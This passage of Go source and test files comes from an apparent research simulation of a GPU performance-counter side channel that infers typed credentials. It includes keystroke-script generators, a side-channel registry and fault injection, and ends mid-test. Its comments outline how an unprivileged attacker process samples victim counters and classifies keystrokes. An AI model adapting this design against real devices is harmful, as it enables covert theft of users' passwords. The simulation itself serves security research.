		return "event"
	}
}

// Event is one scripted user action.
type Event struct {
	Kind EventKind
	R    rune     // for EvPress
	At   sim.Time // press-down time
	Dur  sim.Time // press duration (EvPress/EvBackspace)
}

// Script is a time-ordered sequence of user actions.
type Script struct {
	Events []Event
}

// End returns the time of the last event plus its duration.
func (s *Script) End() sim.Time {
	if len(s.Events) == 0 {
		return 0
	}
	last := s.Events[len(s.Events)-1]
	return last.At + last.Dur
}

// ExpectedText replays presses and backspaces into the final credential
// string — the eavesdropping ground truth.
func (s *Script) ExpectedText() string {
	var out []rune
	for _, e := range s.Events {
		switch e.Kind {
		case EvPress:
			out = append(out, e.R)
		case EvBackspace:
			if len(out) > 0 {
				out = out[:len(out)-1]
			}
		}
	}
	return string(out)
}

// PressCount returns the number of character presses (excluding
// backspaces).
func (s *Script) PressCount() int {
	n := 0
	for _, e := range s.Events {
		if e.Kind == EvPress {
			n++
		}
	}
	return n
}

// Typing builds a plain typing script for text, using the volunteer's
// timing, starting at start.
func Typing(text string, v Volunteer, speed Speed, r *sim.Rand, start sim.Time) Script {
	var s Script
	t := start
	for i, c := range text {
		if i > 0 {
			t += v.SampleIntervalWithSpeed(r, speed)
		}
		s.Events = append(s.Events, Event{Kind: EvPress, R: c, At: t, Dur: v.SampleDuration(r)})
	}
	return s
}

// RandomText draws n runes uniformly from alphabet.
func RandomText(r *sim.Rand, alphabet []rune, n int) string {
	out := make([]rune, n)
	for i := range out {
		out[i] = alphabet[r.Intn(len(alphabet))]
	}
	return string(out)
}

// PracticalOptions tunes the §8 practical-session generator.
type PracticalOptions struct {
	BackspaceProb float64 // per-character probability of a correction
	SwitchProb    float64 // per-character probability of an app excursion
	NotifViewProb float64 // per-character probability of a glance
	ExcursionMin  sim.Time
	ExcursionMax  sim.Time
}

// DefaultPracticalOptions mirrors the behavior mix in Figure 27.
func DefaultPracticalOptions() PracticalOptions {
	return PracticalOptions{
		BackspaceProb: 0.06,
		SwitchProb:    0.04,
		NotifViewProb: 0.03,
		ExcursionMin:  2 * sim.Second,
		ExcursionMax:  8 * sim.Second,
	}
}

// Practical builds a §8-style session: typing text with random
// corrections, app switches and notification glances interleaved.
func Practical(text string, v Volunteer, opts PracticalOptions, r *sim.Rand, start sim.Time) Script {
	var s Script
	t := start
	first := true
	emit := func(k EventKind, c rune, dur sim.Time) {
		s.Events = append(s.Events, Event{Kind: k, R: c, At: t, Dur: dur})
	}
	for _, c := range text {
		if !first {
			t += v.SampleInterval(r)
		}
		first = false
		emit(EvPress, c, v.SampleDuration(r))
		t += s.Events[len(s.Events)-1].Dur

		if r.Bool(opts.BackspaceProb) {
			// Mistype: press a wrong neighbor, delete it, retype intent is
			// handled by the caller's text; here we insert press+backspace.
			t += v.SampleInterval(r)
			emit(EvPress, wrongNeighbor(c, r), v.SampleDuration(r))
			t += s.Events[len(s.Events)-1].Dur
			t += v.SampleInterval(r)
			emit(EvBackspace, 0, v.SampleDuration(r))
			t += s.Events[len(s.Events)-1].Dur
		}
		if r.Bool(opts.SwitchProb) {
			t += v.SampleInterval(r)
			emit(EvSwitchAway, 0, 0)
			t += opts.ExcursionMin + sim.Time(r.Float64()*float64(opts.ExcursionMax-opts.ExcursionMin))
			emit(EvSwitchBack, 0, 0)
			t += 600 * sim.Millisecond
		}
		if r.Bool(opts.NotifViewProb) {
			t += v.SampleInterval(r)
			emit(EvNotifView, 0, 0)
			t += 800 * sim.Millisecond
		}
	}
	return s
}

// wrongNeighbor returns a plausible mistyped character near c.
func wrongNeighbor(c rune, r *sim.Rand) rune {
	const row = "qwertyuiopasdfghjklzxcvbnm"
	for i, q := range row {
		if q == c {
			j := i + 1
			if r.Bool(0.5) && i > 0 {
				j = i - 1
			}
			if j >= len(row) {
				j = i - 1
			}
			return rune(row[j])
		}
	}
	return 'x'
}
