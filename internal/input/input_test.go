package input

import (
	"testing"

	"gpuleak/internal/sim"
)

func TestFiveVolunteers(t *testing.T) {
	if len(Volunteers) != 5 {
		t.Fatalf("volunteer count = %d", len(Volunteers))
	}
	names := map[string]bool{}
	for _, v := range Volunteers {
		if names[v.Name] {
			t.Fatalf("duplicate volunteer %s", v.Name)
		}
		names[v.Name] = true
	}
}

func TestSampleBounds(t *testing.T) {
	r := sim.NewRand(1)
	for _, v := range Volunteers {
		for i := 0; i < 2000; i++ {
			d := v.SampleDuration(r)
			if d < 40*sim.Millisecond || d > 250*sim.Millisecond {
				t.Fatalf("%s duration out of range: %v", v.Name, d)
			}
			iv := v.SampleInterval(r)
			if iv < 80*sim.Millisecond || iv > 1500*sim.Millisecond {
				t.Fatalf("%s interval out of range: %v", v.Name, iv)
			}
		}
	}
}

func TestVolunteersHeterogeneous(t *testing.T) {
	// Figure 16 shows clearly distinct clusters per volunteer.
	r := sim.NewRand(2)
	means := make([]float64, len(Volunteers))
	for i, v := range Volunteers {
		var sum sim.Time
		for j := 0; j < 500; j++ {
			sum += v.SampleInterval(r)
		}
		means[i] = float64(sum) / 500
	}
	lo, hi := means[0], means[0]
	for _, m := range means {
		if m < lo {
			lo = m
		}
		if m > hi {
			hi = m
		}
	}
	if hi/lo < 1.5 {
		t.Fatalf("volunteer interval means too uniform: %v", means)
	}
}

func TestSpeedMatches(t *testing.T) {
	cases := []struct {
		s    Speed
		t    sim.Time
		want bool
	}{
		{SpeedFast, 100 * sim.Millisecond, true},
		{SpeedFast, 300 * sim.Millisecond, false},
		{SpeedMedium, 300 * sim.Millisecond, true},
		{SpeedMedium, 500 * sim.Millisecond, false},
		{SpeedSlow, 500 * sim.Millisecond, true},
		{SpeedSlow, 100 * sim.Millisecond, false},
		{SpeedAny, 100 * sim.Millisecond, true},
	}
	for _, c := range cases {
		if got := c.s.Matches(c.t); got != c.want {
			t.Errorf("%v.Matches(%v) = %v", c.s, c.t, got)
		}
	}
}

func TestSampleIntervalWithSpeed(t *testing.T) {
	r := sim.NewRand(3)
	for _, sp := range []Speed{SpeedFast, SpeedMedium, SpeedSlow} {
		for _, v := range Volunteers {
			for i := 0; i < 50; i++ {
				iv := v.SampleIntervalWithSpeed(r, sp)
				if !sp.Matches(iv) {
					t.Fatalf("%s: interval %v not in class %v", v.Name, iv, sp)
				}
			}
		}
	}
}

func TestTypingScript(t *testing.T) {
	r := sim.NewRand(4)
	s := Typing("hello", Volunteers[0], SpeedAny, r, 1000)
	if len(s.Events) != 5 {
		t.Fatalf("event count = %d", len(s.Events))
	}
	if s.Events[0].At != 1000 {
		t.Fatalf("start time = %v", s.Events[0].At)
	}
	prev := sim.Time(0)
	for i, e := range s.Events {
		if e.Kind != EvPress {
			t.Fatalf("event %d kind = %v", i, e.Kind)
		}
		if e.At < prev {
			t.Fatal("script not time-ordered")
		}
		prev = e.At
	}
	if got := s.ExpectedText(); got != "hello" {
		t.Fatalf("ExpectedText = %q", got)
	}
	if s.PressCount() != 5 {
		t.Fatalf("PressCount = %d", s.PressCount())
	}
	if s.End() <= s.Events[4].At {
		t.Fatal("End before last press release")
	}
}

func TestTypingIntervalRespectsSpeed(t *testing.T) {
	r := sim.NewRand(5)
	s := Typing("abcdefgh", Volunteers[2], SpeedFast, r, 0)
	for i := 1; i < len(s.Events); i++ {
		gap := s.Events[i].At - s.Events[i-1].At
		if gap >= 240*sim.Millisecond {
			t.Fatalf("fast script gap = %v", gap)
		}
	}
}

func TestExpectedTextWithBackspaces(t *testing.T) {
	s := Script{Events: []Event{
		{Kind: EvPress, R: 'a'},
		{Kind: EvPress, R: 'b'},
		{Kind: EvBackspace},
		{Kind: EvPress, R: 'c'},
		{Kind: EvBackspace},
		{Kind: EvBackspace}, // over-delete is a no-op
		{Kind: EvPress, R: 'd'},
	}}
	if got := s.ExpectedText(); got != "d" {
		t.Fatalf("ExpectedText = %q, want \"d\"", got)
	}
}

func TestRandomText(t *testing.T) {
	r := sim.NewRand(6)
	alphabet := []rune("abc123")
	txt := RandomText(r, alphabet, 64)
	if len([]rune(txt)) != 64 {
		t.Fatalf("length = %d", len([]rune(txt)))
	}
	allowed := map[rune]bool{}
	for _, c := range alphabet {
		allowed[c] = true
	}
	for _, c := range txt {
		if !allowed[c] {
			t.Fatalf("rune %q not in alphabet", c)
		}
	}
}

func TestPracticalSessionContainsBehaviors(t *testing.T) {
	r := sim.NewRand(7)
	opts := DefaultPracticalOptions()
	opts.BackspaceProb, opts.SwitchProb, opts.NotifViewProb = 0.5, 0.5, 0.5
	s := Practical("abcdefghijkl", Volunteers[0], opts, r, 0)
	kinds := map[EventKind]int{}
	for _, e := range s.Events {
		kinds[e.Kind]++
	}
	if kinds[EvBackspace] == 0 || kinds[EvSwitchAway] == 0 || kinds[EvNotifView] == 0 {
		t.Fatalf("behavior mix missing: %v", kinds)
	}
	if kinds[EvSwitchAway] != kinds[EvSwitchBack] {
		t.Fatalf("unbalanced switches: %v", kinds)
	}
	// Corrections cancel out: final text is the input text.
	if got := s.ExpectedText(); got != "abcdefghijkl" {
		t.Fatalf("ExpectedText = %q", got)
	}
}

func TestPracticalOrdered(t *testing.T) {
	r := sim.NewRand(8)
	s := Practical("credential", Volunteers[1], DefaultPracticalOptions(), r, 0)
	prev := sim.Time(-1)
	for _, e := range s.Events {
		if e.At < prev {
			t.Fatal("practical script out of order")
		}
		prev = e.At
	}
}

func TestEventKindString(t *testing.T) {
	if EvPress.String() != "press" || EvSwitchBack.String() != "switch-back" {
		t.Fatal("kind names wrong")
	}
}

func TestWrongNeighborNearby(t *testing.T) {
	r := sim.NewRand(9)
	for i := 0; i < 100; i++ {
		n := wrongNeighbor('g', r)
		if n != 'f' && n != 'h' {
			t.Fatalf("neighbor of g = %q", n)
		}
	}
	if wrongNeighbor('7', r) != 'x' {
		t.Fatal("non-letter fallback broken")
	}
}
