package channel

import (
	"errors"
	"strings"
	"testing"

	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

// fakeChannel is a registry-only throwaway: Open is never called.
type fakeChannel struct{ name string }

func (c fakeChannel) Name() string                             { return c.name }
func (c fakeChannel) Dims() int                                { return 1 }
func (c fakeChannel) Open(sess *victim.Session) (Probe, error) { return nil, nil }
func (c fakeChannel) Taxonomy() fault.Taxonomy                 { return fault.Taxonomy{} }
func (c fakeChannel) Interval() sim.Time                       { return sim.Millisecond }

func TestRegistryRoundTrip(t *testing.T) {
	Register(fakeChannel{name: "test.roundtrip"})
	c, err := Get("test.roundtrip")
	if err != nil {
		t.Fatalf("Get after Register: %v", err)
	}
	if c.Name() != "test.roundtrip" {
		t.Errorf("Get returned %q", c.Name())
	}
	found := false
	for _, n := range Names() {
		if n == "test.roundtrip" {
			found = true
		}
	}
	if !found {
		t.Errorf("Names() = %v does not list the registered channel", Names())
	}
}

func TestGetUnknown(t *testing.T) {
	_, err := Get("test.unknown")
	if !errors.Is(err, ErrUnknownChannel) {
		t.Fatalf("Get(unknown) = %v; want ErrUnknownChannel", err)
	}
	if !strings.Contains(err.Error(), "test.unknown") {
		t.Errorf("error %q does not name the channel", err)
	}
}

func TestGetEmptyResolvesDefault(t *testing.T) {
	// The default channel is registered by its own package, which this
	// package cannot import (it would invert the dependency); the empty
	// name must at least normalize onto DefaultName's registry entry.
	_, err := Get("")
	_, errDefault := Get(DefaultName)
	if (err == nil) != (errDefault == nil) {
		t.Fatalf("Get(\"\") = %v but Get(%q) = %v; they must agree", err, DefaultName, errDefault)
	}
}

func TestRegisterDuplicatePanics(t *testing.T) {
	Register(fakeChannel{name: "test.dup"})
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate Register did not panic")
		}
	}()
	Register(fakeChannel{name: "test.dup"})
}

func TestRegisterEmptyNamePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("empty-name Register did not panic")
		}
	}()
	Register(fakeChannel{name: ""})
}

func TestCanonical(t *testing.T) {
	if got := Canonical(DefaultName); got != "" {
		t.Errorf("Canonical(%q) = %q; the default channel keeps the legacy empty tag", DefaultName, got)
	}
	if got := Canonical("proccount"); got != "proccount" {
		t.Errorf("Canonical(proccount) = %q", got)
	}
}
