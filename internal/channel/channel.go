// Package channel defines the pluggable side-channel plane. The paper's
// attack shape — sample a cumulative counter surface, extract delta
// vectors, segment them, centroid-classify — is not specific to GPU
// performance counters: EavesDroid runs the same loop over /proc
// interrupt and runqueue counters, and power-trace attacks run it over
// VBUS current. A Channel packages everything the generic pipeline needs
// to run that loop over one such surface: how to open a probe on a
// victim session, how many feature dimensions the probe fills, which
// error sentinels its driver surfaces, and the default polling cadence.
//
// Implementations self-register through Register from their package's
// init function (the gpuvet channelreg analyzer enforces this); consumers
// resolve them by name through Get and never construct them directly.
// The KGSL perf-counter channel (internal/kgslchan) is the first and
// default implementation; internal/proccount is the second.
//
// # Determinism contract
//
// A Channel must be stateless and safe for concurrent use: all per-run
// state lives in the Probe it opens. A Probe is owned by one sampling
// goroutine and its reads must be pure functions of (session, read time)
// — never of wall clock, read count, or scheduling — so a collection
// replays byte-identically at any worker count. Probes fill the leading
// Dims() entries of each trace.Raw read with cumulative, monotonically
// non-decreasing counters and leave the remaining dimensions zero; the
// delta extraction, weighting and classification layers above are
// width-agnostic because an all-zero dimension contributes nothing to
// weighted distance.
package channel

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// DefaultName is the channel used everywhere a channel is not named: the
// KGSL perf-counter path the repository was born with. Models trained on
// it carry an empty channel tag for backward compatibility (see
// attack.ModelKey).
const DefaultName = "kgsl"

// ErrUnknownChannel reports a channel name absent from the registry.
// Match with errors.Is; the serving layer maps it onto HTTP 400.
var ErrUnknownChannel = errors.New("channel: unknown channel")

// Probe is one open sampling handle on a victim session: the two calls
// the generic sampler issues per polling tick. *kgsl.File and
// *fault.File satisfy it structurally (their method set is a superset).
type Probe interface {
	// ReserveSelected acquires the channel's counter surface at t; the
	// sampler retries it on the taxonomy's NotReserved sentinel.
	ReserveSelected(t sim.Time) error
	// ReadSelected reads the cumulative counters at t into the shared
	// fixed-width feature space, leading Dims() entries meaningful.
	ReadSelected(t sim.Time) (trace.Raw, error)
}

// Channel is one registered side channel.
type Channel interface {
	// Name is the registry key ("kgsl", "proccount").
	Name() string
	// Dims is how many leading dimensions of trace.Raw the probe fills.
	Dims() int
	// Open returns a fresh probe on a materialized victim session, as the
	// attacker's unprivileged process would acquire it.
	Open(sess *victim.Session) (Probe, error)
	// Taxonomy is the channel's transient-error vocabulary: what the fault
	// plane injects for it and what the sampler's retry policy recovers.
	Taxonomy() fault.Taxonomy
	// Interval is the channel's default polling period.
	Interval() sim.Time
}

var (
	regMu    sync.RWMutex
	registry = map[string]Channel{}
)

// Register adds a channel to the registry. It is called from the
// implementing package's init function and panics on a duplicate or
// empty name, mirroring the analyzer and experiment registries.
func Register(c Channel) {
	name := c.Name()
	if name == "" {
		panic("channel: Register with empty name")
	}
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := registry[name]; dup {
		panic(fmt.Sprintf("channel: duplicate Register(%q)", name))
	}
	registry[name] = c
}

// Get resolves a channel by name. The empty name resolves to DefaultName,
// so legacy call sites that never mention channels keep meaning KGSL.
// Unknown names fail with an error matching ErrUnknownChannel.
func Get(name string) (Channel, error) {
	if name == "" {
		name = DefaultName
	}
	regMu.RLock()
	c, ok := registry[name]
	regMu.RUnlock()
	if !ok {
		return nil, fmt.Errorf("%w: %q (registered: %v)", ErrUnknownChannel, name, Names())
	}
	return c, nil
}

// Names lists the registered channel names, sorted.
func Names() []string {
	regMu.RLock()
	out := make([]string, 0, len(registry))
	for name := range registry {
		out = append(out, name)
	}
	regMu.RUnlock()
	sort.Strings(out)
	return out
}

// Canonical maps a channel name onto its model-key tag: the default
// channel is tagged with the empty string so models trained before the
// channel plane existed — and their serialized JSON — stay identical.
func Canonical(name string) string {
	if name == DefaultName {
		return ""
	}
	return name
}
