package fault

import (
	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
)

// Device is the KGSL-shaped surface the fault plane wraps: the three
// calls the attack pipeline issues against an open device handle.
// *kgsl.File satisfies it structurally, and so does *File itself, so
// fault planes compose (wrap a wrap to union two profiles).
type Device interface {
	Ioctl(t sim.Time, request uint32, arg any) error
	ReserveSelected(t sim.Time) error
	ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error)
}

// Telemetry event vocabulary of the fault plane. Registered once at
// package level (the gpuvet obsevent analyzer enforces this). Events are
// emitted only when a fault actually fires, so a zero/None profile — and
// any faultless run — leaves the telemetry stream byte-identical to an
// unwrapped device.
var (
	// evInject marks one injected device fault; fields: op (read|reserve|
	// ioctl), kind (busy|inval|revoked|wrap|closed).
	evInject = obs.NewName("fault.inject")
	// evTick marks one injected sampler-tick fault; fields: tick, kind
	// (drop|late), delay_us (late only).
	evTick = obs.NewName("fault.tick")
)

// Metric-name vocabulary of the fault plane: one counter per injected
// fault kind, mapped from the kind string by faultMetric.
const (
	mFaultClosed  = "fault.closed"
	mFaultBusy    = "fault.busy"
	mFaultInval   = "fault.inval"
	mFaultRevoked = "fault.revoked"
	mFaultWrap    = "fault.wrap"
	mFaultDrop    = "fault.drop"
	mFaultLate    = "fault.late"
	mFaultOther   = "fault.other"
)

// InjectedStats counts the faults a File actually injected. The counters
// are inputs to the chaos report: recovery is judged by comparing them
// against the sampler's CollectStats (every injection either retried away
// or degraded, never fatal).
type InjectedStats struct {
	Busy         int `json:"busy,omitempty"`
	Inval        int `json:"inval,omitempty"`
	Revocations  int `json:"revocations,omitempty"`
	DroppedTicks int `json:"dropped_ticks,omitempty"`
	LateTicks    int `json:"late_ticks,omitempty"`
	Wraps        int `json:"wraps,omitempty"`
	Closures     int `json:"closures,omitempty"`
}

// Total sums every injection class.
func (s InjectedStats) Total() int {
	return s.Busy + s.Inval + s.Revocations + s.DroppedTicks +
		s.LateTicks + s.Wraps + s.Closures
}

// Add accumulates another stats block into s.
func (s *InjectedStats) Add(o InjectedStats) {
	s.Busy += o.Busy
	s.Inval += o.Inval
	s.Revocations += o.Revocations
	s.DroppedTicks += o.DroppedTicks
	s.LateTicks += o.LateTicks
	s.Wraps += o.Wraps
	s.Closures += o.Closures
}

// File wraps a device handle and injects the profile's fault schedule.
// Like kgsl.File it is owned by a single sampling goroutine; every
// injection decision is drawn from the File's private sim.Rand in call
// order, so for a fixed (Profile, seed) the schedule replays
// bit-identically regardless of what any other goroutine does.
type File struct {
	// Obs, when non-nil, emits a fault.inject / fault.tick event per
	// injection (and nothing otherwise).
	Obs *obs.Tracer
	// Stats accumulates what was actually injected.
	Stats InjectedStats

	dev Device
	p   Profile
	tax Taxonomy
	rng *sim.Rand

	revoked    bool // reservation revoked; reads fail until ReserveSelected
	busyLeft   int  // remaining operations of the current EBUSY burst
	dropLeft   int  // remaining ticks of the current drop burst
	closedLeft int  // remaining operations of the current transient closure
}

// NewFile wraps dev in a fault plane driven by profile p and the given
// seed, injecting the KGSL errno taxonomy — the historical behavior.
// Burst-shape fields are defaulted (BusyBurst≥1, CloseOps≥3, LateMax
// 2 ms). A zero/None profile is a pure passthrough that never touches
// the RNG.
func NewFile(dev Device, p Profile, seed int64) *File {
	return NewFileTaxonomy(dev, p, seed, KGSL())
}

// NewFileTaxonomy is NewFile with an explicit error taxonomy: injections
// surface the given channel's sentinels instead of KGSL errnos, so a
// retry policy classifying with the same taxonomy recovers them. Invalid
// taxonomies fall back to KGSL. The draw schedule is taxonomy-independent
// — only the returned error values differ — and a zero/None profile stays
// a byte-identical passthrough on every channel.
func NewFileTaxonomy(dev Device, p Profile, seed int64, tax Taxonomy) *File {
	if p.BusyBurst < 1 {
		p.BusyBurst = 1
	}
	if p.CloseOps < 3 {
		p.CloseOps = 3
	}
	if p.LateMax <= 0 {
		p.LateMax = 2 * sim.Millisecond
	}
	if !tax.Valid() {
		tax = KGSL()
	}
	return &File{dev: dev, p: p, tax: tax, rng: sim.NewRand(seed)}
}

// Profile returns the (defaulted) profile driving this plane.
func (f *File) Profile() Profile { return f.p }

// Taxonomy returns the error taxonomy this plane injects.
func (f *File) Taxonomy() Taxonomy { return f.tax }

// faultMetric maps an injected fault kind onto its counter name. The
// counter namespace is the closed set of kinds this plane injects — a
// named mapping rather than ad-hoc concatenation, so the obsevent
// analyzer can hold call sites to registered constants.
func faultMetric(kind string) string {
	switch kind {
	case "closed":
		return mFaultClosed
	case "busy":
		return mFaultBusy
	case "inval":
		return mFaultInval
	case "revoked":
		return mFaultRevoked
	case "wrap":
		return mFaultWrap
	case "drop":
		return mFaultDrop
	case "late":
		return mFaultLate
	}
	return mFaultOther
}

func (f *File) emitOp(t sim.Time, op, kind string) {
	if f.Obs == nil {
		return
	}
	f.Obs.Emit(t, evInject, obs.Str("op", op), obs.Str("kind", kind))
	f.Obs.Metrics().Add(faultMetric(kind), 1)
}

// opFault draws the per-operation fault classes shared by every entry
// point: transient closure, EBUSY bursts, one-shot EINVAL. Draw order is
// fixed (close, busy, inval) and zero-probability classes draw nothing,
// so adding a class to a profile never perturbs the others' schedules
// less than necessary.
func (f *File) opFault(t sim.Time, op string) error {
	if f.closedLeft > 0 {
		f.closedLeft--
		f.emitOp(t, op, "closed")
		return f.tax.Closed
	}
	if f.busyLeft > 0 {
		f.busyLeft--
		f.Stats.Busy++
		f.emitOp(t, op, "busy")
		return f.tax.Busy
	}
	if f.p.PClose > 0 && f.rng.Bool(f.p.PClose) {
		f.closedLeft = f.p.CloseOps - 1
		f.Stats.Closures++
		f.emitOp(t, op, "closed")
		return f.tax.Closed
	}
	if f.p.PBusy > 0 && f.rng.Bool(f.p.PBusy) {
		f.busyLeft = f.p.BusyBurst - 1
		f.Stats.Busy++
		f.emitOp(t, op, "busy")
		return f.tax.Busy
	}
	if f.p.PInval > 0 && f.rng.Bool(f.p.PInval) {
		f.Stats.Inval++
		f.emitOp(t, op, "inval")
		return f.tax.Inval
	}
	return nil
}

// Ioctl injects per-operation faults, then delegates. A revoked
// reservation makes PERFCOUNTER_READ fail with kgsl.ErrNotReserved until
// the caller re-reserves via ReserveSelected.
func (f *File) Ioctl(t sim.Time, request uint32, arg any) error {
	if err := f.opFault(t, "ioctl"); err != nil {
		return err
	}
	if f.revoked && request == kgsl.IoctlPerfcounterRead {
		return f.tax.NotReserved
	}
	return f.dev.Ioctl(t, request, arg)
}

// ReserveSelected injects per-operation faults, then delegates; on
// success it clears any outstanding revocation (the re-reservation path
// the sampler's retry policy exercises).
func (f *File) ReserveSelected(t sim.Time) error {
	if err := f.opFault(t, "reserve"); err != nil {
		return err
	}
	if err := f.dev.ReserveSelected(t); err != nil {
		return err
	}
	f.revoked = false
	return nil
}

// ReadSelected injects per-operation faults, revocation, and value wraps,
// then delegates. A revocation persists — every read fails with
// kgsl.ErrNotReserved until ReserveSelected succeeds — modeling another
// process PUTting the shared global counters out from under the attacker.
// A wrap truncates one counter value to its low 32 bits, modeling
// register saturation on real hardware.
func (f *File) ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error) {
	var zero [adreno.NumSelected]uint64
	if err := f.opFault(t, "read"); err != nil {
		return zero, err
	}
	if f.revoked {
		return zero, f.tax.NotReserved
	}
	if f.p.PRevoke > 0 && f.rng.Bool(f.p.PRevoke) {
		f.revoked = true
		f.Stats.Revocations++
		f.emitOp(t, "read", "revoked")
		return zero, f.tax.NotReserved
	}
	vals, err := f.dev.ReadSelected(t)
	if err != nil {
		return vals, err
	}
	if f.p.PWrap > 0 && f.rng.Bool(f.p.PWrap) {
		i := f.rng.Intn(adreno.NumSelected)
		vals[i] &= 0xffffffff
		f.Stats.Wraps++
		f.emitOp(t, "read", "wrap")
	}
	return vals, nil
}

// TickFault draws the per-tick fault classes the sampler consults before
// each poll: drop (the tick is skipped entirely) or a late delay in
// (0, LateMax]. The sampler type-asserts for this method, so wrapping a
// device in a File is all it takes to perturb the polling clock.
func (f *File) TickFault(tick int, t sim.Time) (delay sim.Time, drop bool) {
	if f.dropLeft > 0 || (f.p.PDropTick > 0 && f.rng.Bool(f.p.PDropTick)) {
		if f.dropLeft == 0 {
			f.dropLeft = f.p.DropBurst
			if f.dropLeft < 1 {
				f.dropLeft = 1
			}
		}
		f.dropLeft--
		f.Stats.DroppedTicks++
		if f.Obs != nil {
			f.Obs.Emit(t, evTick, obs.Int("tick", tick), obs.Str("kind", "drop"))
			f.Obs.Metrics().Add(mFaultDrop, 1)
		}
		return 0, true
	}
	if f.p.PLateTick > 0 && f.rng.Bool(f.p.PLateTick) {
		d := 1 + sim.Time(f.rng.Float64()*float64(f.p.LateMax))
		if d > f.p.LateMax {
			d = f.p.LateMax
		}
		f.Stats.LateTicks++
		if f.Obs != nil {
			f.Obs.Emit(t, evTick, obs.Int("tick", tick), obs.Str("kind", "late"),
				obs.Int("delay_us", int(d)))
			f.Obs.Metrics().Add(mFaultLate, 1)
		}
		return d, false
	}
	return 0, false
}
