package fault_test

import (
	"errors"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/fault"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/sim"
)

// stubDevice is a deterministic Device: counters advance by a fixed
// stride per read, so two stubs driven identically produce identical
// values and any divergence is the fault plane's doing.
type stubDevice struct {
	ioctls, reserves, reads int
	val                     uint64
	stride                  uint64
}

func (d *stubDevice) Ioctl(t sim.Time, request uint32, arg any) error {
	d.ioctls++
	return nil
}

func (d *stubDevice) ReserveSelected(t sim.Time) error {
	d.reserves++
	return nil
}

func (d *stubDevice) ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error) {
	d.reads++
	var v [adreno.NumSelected]uint64
	for i := range v {
		d.val += d.stride
		v[i] = d.val
	}
	return v, nil
}

func TestProfileRegistry(t *testing.T) {
	names := fault.Names()
	if len(names) != len(fault.Profiles()) {
		t.Fatalf("Names() has %d entries, Profiles() has %d", len(names), len(fault.Profiles()))
	}
	for _, name := range names {
		p, ok := fault.ByName(name)
		if !ok {
			t.Fatalf("ByName(%q) not found though listed", name)
		}
		if p.Name != name {
			t.Errorf("ByName(%q).Name = %q", name, p.Name)
		}
	}
	if _, ok := fault.ByName("catastrophic"); ok {
		t.Error("ByName accepted an unknown profile")
	}
	// Profiles are published in severity order, None first.
	ps := fault.Profiles()
	if !ps[0].IsZero() {
		t.Errorf("first profile %q is not the zero profile", ps[0].Name)
	}
	for i := 1; i < len(ps); i++ {
		if ps[i].Rate() < ps[i-1].Rate() {
			t.Errorf("profile %q (rate %.3f) is listed after %q (rate %.3f)",
				ps[i].Name, ps[i].Rate(), ps[i-1].Name, ps[i-1].Rate())
		}
	}
}

func TestSeedDerivation(t *testing.T) {
	if fault.Seed(1, 2) != fault.Seed(1, 2) {
		t.Error("Seed is not a pure function")
	}
	if fault.Seed(1, 2) == fault.Seed(1, 3) {
		t.Error("Seed does not separate scenarios")
	}
	if fault.Seed(1, 2) == fault.Seed(2, 2) {
		t.Error("Seed does not separate base seeds")
	}
}

// TestNonePassthrough pins the fault plane's byte-identity contract: a
// zero profile forwards every operation untouched, injects nothing, and
// never perturbs tick timing.
func TestNonePassthrough(t *testing.T) {
	raw := &stubDevice{stride: 7}
	wrapped := &stubDevice{stride: 7}
	f := fault.NewFile(wrapped, fault.None, 12345)

	for i := 0; i < 200; i++ {
		at := sim.Time(i) * sim.Millisecond
		if err := f.Ioctl(at, kgsl.IoctlPerfcounterRead, nil); err != nil {
			t.Fatalf("ioctl %d: %v", i, err)
		}
		_ = raw.Ioctl(at, kgsl.IoctlPerfcounterRead, nil)
		if err := f.ReserveSelected(at); err != nil {
			t.Fatalf("reserve %d: %v", i, err)
		}
		_ = raw.ReserveSelected(at)
		got, err := f.ReadSelected(at)
		if err != nil {
			t.Fatalf("read %d: %v", i, err)
		}
		want, _ := raw.ReadSelected(at)
		if got != want {
			t.Fatalf("read %d: wrapped %v, raw %v", i, got, want)
		}
		if delay, drop := f.TickFault(i, at); delay != 0 || drop {
			t.Fatalf("tick %d: delay=%v drop=%v from a zero profile", i, delay, drop)
		}
	}
	if total := f.Stats.Total(); total != 0 {
		t.Fatalf("zero profile injected %d faults: %+v", total, f.Stats)
	}
}

func TestBusyBurst(t *testing.T) {
	dev := &stubDevice{stride: 1}
	f := fault.NewFile(dev, fault.Profile{PBusy: 1, BusyBurst: 3}, 1)
	for i := 0; i < 4; i++ {
		if _, err := f.ReadSelected(0); !errors.Is(err, kgsl.ErrBusy) {
			t.Fatalf("read %d: %v, want ErrBusy", i, err)
		}
	}
	if dev.reads != 0 {
		t.Fatalf("busy reads reached the device %d times", dev.reads)
	}
	if f.Stats.Busy != 4 {
		t.Fatalf("Stats.Busy = %d, want 4", f.Stats.Busy)
	}
}

// TestRevocationStateMachine pins the counter-revocation model: a revoked
// reservation fails every read (and PERFCOUNTER_READ ioctl) with
// ErrNotReserved, without consuming new revocation draws, until a
// successful ReserveSelected clears it.
func TestRevocationStateMachine(t *testing.T) {
	dev := &stubDevice{stride: 1}
	f := fault.NewFile(dev, fault.Profile{PRevoke: 1}, 1)

	if _, err := f.ReadSelected(0); !errors.Is(err, kgsl.ErrNotReserved) {
		t.Fatalf("first read: %v, want ErrNotReserved", err)
	}
	if f.Stats.Revocations != 1 {
		t.Fatalf("Revocations = %d after first read, want 1", f.Stats.Revocations)
	}
	// The revocation persists without a fresh draw.
	if _, err := f.ReadSelected(1); !errors.Is(err, kgsl.ErrNotReserved) {
		t.Fatalf("second read: %v, want ErrNotReserved", err)
	}
	if f.Stats.Revocations != 1 {
		t.Fatalf("Revocations = %d while revoked, want still 1", f.Stats.Revocations)
	}
	if err := f.Ioctl(2, kgsl.IoctlPerfcounterRead, nil); !errors.Is(err, kgsl.ErrNotReserved) {
